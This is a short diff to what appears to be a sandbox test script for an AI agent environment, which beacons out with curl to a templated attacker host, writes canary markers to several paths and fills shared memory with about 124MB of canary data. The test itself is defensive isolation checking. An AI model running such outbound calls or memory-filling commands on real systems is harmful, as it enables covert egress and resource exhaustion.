@@ -45,7 +45,9 @@ curl -sSk -m 5 -o /dev/null "https://{{attacker}}/?{{nonce}}" 2>/dev/null && ech
 echo {CANARY} >/home/agent/disk; sync
 echo {CANARY} >/tmp/canary
 echo {CANARY} >/output/canary
-yes {CANARY} | head -c 130000000 >/dev/shm/canary
+yes {CANARY} | head -c 4000000 >/tmp/part
+while [ $# -lt 31 ]; do set -- "$@" /tmp/part; done
+cat "$@" >/dev/shm/canary
 cat /proc/swaps
 exit 7
 """
